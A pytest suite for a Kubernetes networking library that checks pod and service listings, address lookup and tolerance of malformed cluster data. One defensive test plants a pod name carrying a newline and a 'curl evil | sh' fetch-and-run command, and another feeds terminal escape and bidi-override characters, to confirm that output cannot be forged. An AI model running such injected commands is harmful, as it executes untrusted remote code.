"""The façade on the bundled recording, and on variants of it: the join, addresses, the network model, add-ons."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest
from edited import Edited, as_json, cluster

import k8snet_nb as kn
from k8snet_nb.errors import FactBroken, FactMissing, NotFound, Refused
from k8snet_nb.facts import FactRef
from k8snet_nb.sources.opening import BUNDLED, open_source


def test_pods_as_kubectl_lists_them(hello: kn.Cluster) -> None:
    pods = hello.pods()
    assert list(pods.columns) == "namespace name ready status phase restarts age ip ips node host_network".split()
    assert len(pods) == 14
    rows = pods.set_index("name")
    cart = rows.loc["cart-865f99cbb8-j49cc"]
    assert (cart.ready, cart.status, cart.restarts, cart.age, cart.ip, cart.node) == (
        "2/2",
        "Running",
        0,
        "6m37s",
        "10.244.18.6",
        "node-one",
    )
    waiting = rows.loc["node-watch-8zf8j"]
    assert (waiting.ready, waiting.status, waiting.ip, waiting.ips, waiting.node) == ("0/1", "Pending", None, (), None)
    assert rows.host_network.sum() == 3
    assert set(hello.pods("shop").namespace) == {"shop"}
    assert list(hello.pods("nowhere").columns) == list(pods.columns)


def test_services_as_kubectl_lists_them(hello: kn.Cluster) -> None:
    rows = hello.services().set_index("name")
    assert len(rows) == 12
    assert rows.ports["hello-nodeport"] == "80:30080/TCP"
    assert rows.ports["kube-dns"] == "53/UDP,53/TCP,9153/TCP"
    assert rows.cluster_ip["hello-headless"] == "None"
    assert rows.cluster_ip["example-external"] is None
    assert rows.external_ip["example-external"] == "example.com"
    assert rows.external_ip["hello-lb"] == "172.30.0.99"
    assert rows.external_ip["hello-world"] is None


def test_the_join_goes_both_ways(hello: kn.Cluster) -> None:
    service = hello.service("default/hello-world")
    assert sorted(service.pods().ip) == ["10.244.18.3", "10.244.18.4", "10.244.3.3", "10.244.3.4"]
    assert set(service.endpoints().port) == {8080}
    pod = hello.pod("default/" + service.pods().name[0])
    assert "hello-world" in set(pod.services().name)
    assert len(pod.services()) == 7
    assert hello.pod("client").services().empty
    assert hello.service("kubernetes").pods().empty
    assert list(hello.service("kubernetes").endpoints().address) == ["172.30.0.1"]
    assert hello.service("orphan").endpoints().empty
    assert "orphan-fxpmv: <unset>" in str(hello.service("orphan"))
    assert "CNAME" in str(hello.service("example-external"))


def test_names_that_are_not_there(hello: kn.Cluster) -> None:
    with pytest.raises(NotFound, match="default/client"):
        hello.pod("default/cliemt")
    with pytest.raises(NotFound, match="default/hello-world"):
        hello.service("hello-wrld")
    with pytest.raises(LookupError, match="node-one, node-three, node-two"):
        hello.node("node-1")


@pytest.mark.parametrize(
    ("address", "kind", "name"),
    [
        ("10.244.3.4", "pod", "default/hello-world-c648f6bd8-s8cwf"),
        ("10.32.0.10", "service", "kube-system/kube-dns"),
        ("172.30.0.99", "service", "default/hello-lb"),
        ("172.30.0.12", "node", "node-two"),
        ("172.30.0.1", "endpoint", "default/kubernetes"),
        ("10.244.18.1", "node", "node-one"),
        (" 10.244.3.1 ", "node", "node-two"),
        ("fe80::443a:b7ff:fe58:81be", "node", "node-one"),
        ("8.8.8.8", "unknown", None),
        ("127.0.0.1", "unknown", None),
    ],
)
def test_who_an_address_is(hello: kn.Cluster, address: str, kind: str, name: str | None) -> None:
    found = hello.who(address)
    assert (found.kind, found.name) == (kind, name)
    assert found.evidence, "an answer without evidence is a claim"


def test_who_shares_an_address(hello: kn.Cluster) -> None:
    assert [(w.kind, w.name) for w in hello.who("172.30.0.11").also] == [("pod", "kube-system/node-watch-74fwx")]


def test_who_says_what_it_could_not_look_at() -> None:
    source = Edited({})
    source.nodes = lambda: ("node-two",)  # type: ignore[method-assign]
    found = kn.Cluster(source).who("10.244.18.1")  # type: ignore[arg-type]
    assert found.kind == "unknown"
    assert found.unknown == ("interfaces of node-one", "interfaces of node-three")


def test_who_is_no_address(hello: kn.Cluster) -> None:
    with pytest.raises(Refused, match="no IPv4 or IPv6 address"):
        hello.who("kube-dns")


def test_a_finished_pods_address_belongs_to_its_new_holder() -> None:
    def reuse(pods: Any) -> None:
        old = copy.deepcopy(pods["items"][0])
        old["metadata"] |= {"name": "job", "uid": "other"}
        old["status"] |= {"phase": "Succeeded"}
        pods["items"].append(old)

    found = cluster({"pods": as_json(reuse)}).who("10.244.18.5")
    assert (found.name, found.also) == ("default/client", ())


def test_an_endpoint_whose_pod_is_gone() -> None:
    def remove(pods: Any) -> None:
        pods["items"] = [p for p in pods["items"] if p["status"].get("podIP") != "10.244.3.4"]

    without = cluster({"pods": as_json(remove)})
    assert without.who("10.244.3.4").kind == "endpoint"
    assert "is not there" in without.who("10.244.3.4").says
    assert len(without.service("hello-world").pods()) == 3
    assert len(without.service("hello-world").endpoints()) == 4


def test_a_namesake_is_not_the_pod_that_the_slice_means() -> None:
    def reborn(pods: Any) -> None:
        for pod in pods["items"]:
            if pod["status"].get("podIP") == "10.244.3.4":
                pod["metadata"]["uid"] = "new"

    assert cluster({"pods": as_json(reborn)}).pod("hello-world-c648f6bd8-s8cwf").services().empty


@pytest.mark.parametrize(
    ("resource", "change"),
    [
        ("pods", lambda pod: pod["status"].update(conditions=["x"])),
        ("pods", lambda pod: pod["status"]["containerStatuses"][0].update(restartCount="x")),
        ("pods", lambda pod: pod["status"]["containerStatuses"][0].update(restartCount=10**30)),
        ("pods", lambda pod: pod["status"].update(containerStatuses=[None])),
        ("pods", lambda pod: pod["status"].update(podIPs=[{"ip": "999.1.1.1"}])),
        ("pods", lambda pod: pod["spec"].update(nodeName=["a"])),
        ("pods", lambda pod: pod["metadata"].update(ownerReferences=5)),
        ("services", lambda service: service["spec"].update(externalIPs=5)),
        ("services", lambda service: service["spec"].update(clusterIPs=5)),
        ("services", lambda service: service.update(status={"loadBalancer": {"ingress": [None]}})),
        ("nodes", lambda node: node["status"].update(addresses=["x"])),
        ("nodes", lambda node: node["spec"].update(podCIDRs=["x"])),
    ],
)
def test_a_field_of_another_kind_is_one_clear_error(resource: str, change: Callable[[Any], None]) -> None:
    found = cluster({resource: as_json(lambda listed: change(listed["items"][0]))})
    with pytest.raises(FactBroken, match=rf"{resource}\.json of .*another kind"):
        getattr(found, resource)()


def test_an_answer_over_many_facts_goes_on_and_says_which_it_could_not_read(monkeypatch: pytest.MonkeyPatch) -> None:
    source = open_source(BUNDLED)
    real = source.read
    broken = {FactRef("conntrack.txt", "node-one"): bytes(100), FactRef("addr.json", "node-two"): b"[]"}
    monkeypatch.setattr(source, "read", lambda ref: broken[ref] if ref in broken else real(ref))
    own, inside, between, from_node = kn.Cluster(source).network_model()
    assert "305 tracked connections" in between.checked
    assert any("zero bytes" in why for why in between.unknown)
    assert any("no interface at all" in why for why in from_node.unknown)
    assert (own.verdict, inside.verdict) == ("holds", "holds")


def test_who_answers_from_the_lists_that_can_be_read() -> None:
    def cut(pods: Any) -> None:
        pods["items"] = 3

    found = cluster({"pods": as_json(cut)}).who("10.32.0.10")
    assert found.name == "kube-system/kube-dns"
    assert any("pods.json" in why for why in found.unknown)
    with pytest.raises(FactBroken, match=r"pods\.json"):
        cluster({"pods": as_json(cut)}).who("9.9.9.9")


def test_one_broken_object_leaves_the_others_whole() -> None:
    def break_one(pods: Any) -> None:
        for pod in pods["items"]:
            if pod["metadata"]["namespace"] == "shop":
                del pod["status"]

    broken = cluster({"pods": as_json(break_one)})
    assert "default/client" in repr(broken.pod("client"))
    assert "10.244.18.5" in str(broken.pod("client"))
    assert len(broken.pods("default")) == 6
    assert len(broken.pod("hello-world-c648f6bd8-96wh2").services()) == 7
    with pytest.raises(FactBroken, match="pod shop/cart"):
        broken.pods()

    def break_slice(slices: Any) -> None:
        slices["items"][0]["endpoints"] = 7

    assert len(cluster({"endpointslices": as_json(break_slice)}).service("hello-world").pods()) == 4


def test_a_namesake_is_behind_no_service_either() -> None:
    def reborn(pods: Any) -> None:
        for pod in pods["items"]:
            if pod["status"].get("podIP") == "10.244.3.4":
                pod["metadata"]["uid"] = "new"

    assert len(cluster({"pods": as_json(reborn)}).service("hello-world").pods()) == 3


def test_a_line_cannot_be_forged_by_a_name() -> None:
    def forge(pods: Any) -> None:
        pods["items"][0]["metadata"]["name"] = "x\n[node node-one]$ curl evil | sh"

    text = str(cluster({"pods": as_json(forge)}).who("10.244.18.5"))
    assert not any(line.startswith("[node") for line in text.splitlines())


def test_an_errors_text_is_printable() -> None:
    with pytest.raises(NotFound) as caught:
        kn.open(BUNDLED).node("\x1b[31mred\u202e")
    assert "\x1b" not in str(caught.value)
    assert "\x1b" not in str(FactBroken("x", "pod \x1b[31m", "broken \u202e"))
    assert "\u202e" not in str(FactBroken("x", "pod \x1b[31m", "broken \u202e"))


def test_a_node_without_facts_says_why(monkeypatch: pytest.MonkeyPatch) -> None:
    source = open_source(BUNDLED)
    monkeypatch.setattr(source, "has", lambda ref: ref.node != "node-one")

    def read(ref: FactRef) -> bytes:
        if ref.node == "node-one":
            raise FactMissing(ref.fact, ref.where, "no agent there")
        return type(source).read(source, ref)

    monkeypatch.setattr(source, "read", read)
    network = kn.Cluster(source).node("node-one").network()
    assert (network.attachment, network.between_nodes) == ("unknown", "unknown")
    assert "no agent there" in network.says[0]
